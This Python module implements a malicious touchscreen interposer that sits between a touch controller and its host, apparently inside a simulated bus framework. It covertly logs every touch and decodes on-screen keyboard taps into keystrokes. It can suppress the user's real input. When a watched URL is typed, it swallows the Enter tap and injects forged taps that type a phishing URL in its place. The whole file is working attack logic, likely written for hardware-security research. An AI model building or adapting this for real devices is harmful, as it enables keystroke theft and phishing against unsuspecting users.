"""Chip-in-the-middle for the touch path: logging, suppression, injection.

When the genuine controller raises its interrupt the interposer drains
the controller's status, bitmap and report registers on its own side of
the wire, logs the frame, and then decides what the host gets to see. The
host's later reads of those registers are answered from the interposer's
copy. With nothing armed that copy is the controller's frame unchanged,
so the host-side trace matches a clean bus apart from the source tags.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from ..bus import BusTransaction, Interposer, Kind, Reply, Source
from ..controller import (
    BITMAP_LEN, BITMAP_REG, RECORD_LEN, REPORT_REG, STATUS_REG, TouchFrame, TouchPoint,
    TouchState, encode_touch_report, finger_bitmap,
)
from ..driver.driver import MalformedReport, TouchEventOut, decode_touch
from .injection import InjectionPlan, NoMapping, substitute_url
from .keyboard import (
    ENTER, KeyboardLayout, KeyStreamDecoder, Trigger, TypingState, default_layout, step_typing,
)

TOUCH_STATUS_MASK = 0x02
STATUS_PEEK_LEN = 4


@dataclass(frozen=True)
class LoggedTouch:
    tick: int
    origin: str  # "user" from the controller side, "wire" when read off a host trace
    events: tuple[TouchEventOut, ...]


# -- passive decoding of a host-side trace ------------------------------------

@dataclass
class ObserverState:
    bitmap: int | None = None
    log: list[LoggedTouch] = field(default_factory=list)


def observe(txn: BusTransaction, state: ObserverState) -> ObserverState:
    """Follow bitmap and report reads on the wire and log decoded touches."""
    if txn.kind is not Kind.READ or not txn.data:
        return state
    if txn.reg_addr == BITMAP_REG:
        state.bitmap = int.from_bytes(txn.data[:BITMAP_LEN], "little")
    elif txn.reg_addr == REPORT_REG and state.bitmap is not None:
        try:
            events = decode_touch(txn.data, state.bitmap)
        except MalformedReport:
            events = []
        if events:
            state.log.append(LoggedTouch(txn.tick, "wire", tuple(events)))
        state.bitmap = None
    return state


def logged_touches(records) -> list[LoggedTouch]:
    state = ObserverState()
    for txn in records:
        observe(txn, state)
    return state.log


# -- active interposer -------------------------------------------------------

def _frame_of(events: list[TouchEventOut]) -> TouchFrame:
    return TouchFrame(tuple(TouchPoint(e.finger_id, e.x, e.y, e.pressure, e.state) for e in events))


class ChipInTheMiddle(Interposer):
    def __init__(self, layout: KeyboardLayout | None = None, phish_map: dict[str, str] | None = None,
                 touch_mask: int = TOUCH_STATUS_MASK, rate: int = 60):
        self.layout = layout or default_layout()
        self.phish_map = dict(phish_map or {})
        self.touch_mask = touch_mask
        self.rate = rate
        self.status = 0
        self.frame = TouchFrame()
        self.frame_origin = "user"
        self.line = False
        self.log: list[LoggedTouch] = []
        self.events: list[tuple[int, str, dict]] = []
        self.suppress_user = False
        self.decoder = KeyStreamDecoder(self.layout)
        self.typing = TypingState(triggers=tuple(Trigger(url, "phish") for url in self.phish_map))
        self._swallow_up: set[int] = set()
        self.injected_frames = 0
        self.bus = None

    def attach(self, bus) -> None:
        self.bus = bus

    def _note(self, kind: str, **info) -> None:
        self.events.append((self.bus.now, kind, info))

    @property
    def hop(self) -> int:
        return self.bus.interposers.index(self)

    # controller side -------------------------------------------------------

    def _peek(self) -> list[TouchEventOut]:
        down = lambda reg, n: self.bus.downstream_read(self.hop + 1, reg, n).data  # noqa: E731
        status = int.from_bytes(down(STATUS_REG, STATUS_PEEK_LEN), "little")
        if not status & self.touch_mask:
            return []
        bitmap = int.from_bytes(down(BITMAP_REG, BITMAP_LEN), "little")
        n = bin(bitmap).count("1")
        if n == 0:
            return []
        try:
            return decode_touch(down(REPORT_REG, RECORD_LEN * n), bitmap)
        except MalformedReport:
            return []

    def irq(self, asserted, source, forward):
        if source is not Source.CONTROLLER:
            forward(asserted, source)
            return
        if not asserted:
            return  # the host line is ours to drive
        events = self._peek()
        if not events:
            return
        self.log.append(LoggedTouch(self.bus.now, "user", tuple(events)))
        if self.suppress_user:
            return
        events = self._track_keys(events)
        if events:
            self.present(_frame_of(events), origin="user")

    def _track_keys(self, events: list[TouchEventOut]) -> list[TouchEventOut]:
        keep = []
        for e in events:
            if e.state is TouchState.UP and e.finger_id in self._swallow_up:
                self._swallow_up.discard(e.finger_id)
                continue
            if e.state is TouchState.DOWN:
                mode = self.decoder.mode
                key = self.decoder.feed(e.x, e.y)
                typed = self.typing.buffer
                self.typing, fired = step_typing(self.typing, key)
                if key == ENTER and fired and self._phish(typed, mode):
                    self._swallow_up.add(e.finger_id)
                    continue
            keep.append(e)
        return keep

    def _phish(self, typed: str, mode) -> bool:
        try:
            plan = substitute_url(typed, self.phish_map, self.layout, self.rate, mode)
        except NoMapping:
            return False
        self._note("phish_trigger", typed=typed, replacement=self.phish_map[typed])
        # first replacement tap lands one period after the swallowed Enter
        self.inject(plan, delay_us=-(-1_000_000 // self.rate), tag="phish")
        self.decoder.mode = plan.end_mode
        return True

    # host side -------------------------------------------------------------------

    def present(self, frame: TouchFrame, origin: str = "injected") -> None:
        """Make ``frame`` the next thing the host reads, raising the line."""
        self.frame = frame
        self.frame_origin = origin
        self.status |= self.touch_mask
        if not self.line:
            self.line = True
            self.bus.set_irq(True, Source.INTERPOSER, from_hop=self.hop)

    def inject(self, plan: InjectionPlan, delay_us: int = 0, tag: str = "inject") -> int:
        """Schedule a plan; returns the tick at which its last frame lands."""
        start = self.bus.now + delay_us
        last = start
        schedule = plan.schedule_us()
        for i, (off, frame) in enumerate(schedule):
            final = i == len(schedule) - 1
            self.bus.sched.call_at(start + off, lambda f=frame, fin=final: self._inject_one(f, tag, fin))
            last = start + off
        self._note(f"{tag}_start", taps=plan.taps, until=last)
        return last

    def _inject_one(self, frame: TouchFrame, tag: str, final: bool) -> None:
        self.injected_frames += 1
        self.present(frame)
        if final:
            self._note(f"{tag}_done")

    def read(self, reg_addr, read_len, forward):
        if reg_addr == STATUS_REG:
            raw = self.status.to_bytes(max(read_len, 4), "little")[:read_len].ljust(read_len, b"\0")
            self.status = 0
            if self.line:
                self.line = False
                self.bus.set_irq(False, Source.INTERPOSER, from_hop=self.hop)
            return Reply(raw, Source.INTERPOSER)
        if reg_addr == BITMAP_REG:
            raw = finger_bitmap(self.frame).to_bytes(BITMAP_LEN, "little")
            return Reply(raw[:read_len].ljust(read_len, b"\0"), Source.INTERPOSER)
        if reg_addr == REPORT_REG:
            raw = encode_touch_report(self.frame)
            return Reply(raw[:read_len].ljust(read_len, b"\0"), Source.INTERPOSER)
        return forward(reg_addr, read_len)
